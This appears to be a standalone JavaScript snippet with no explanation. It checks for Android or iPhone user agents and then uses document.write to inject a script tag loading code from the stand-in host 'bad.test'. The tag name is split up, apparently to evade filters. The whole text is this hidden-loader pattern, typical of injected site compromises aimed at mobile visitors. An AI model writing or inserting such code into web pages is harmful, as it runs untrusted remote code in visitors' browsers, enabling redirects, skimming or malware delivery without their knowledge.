if (/android|iphone/i.test(navigator.userAgent)) { document.write('<scr' + 'ipt src="https://bad.test/j.js"></scr' + 'ipt>'); }
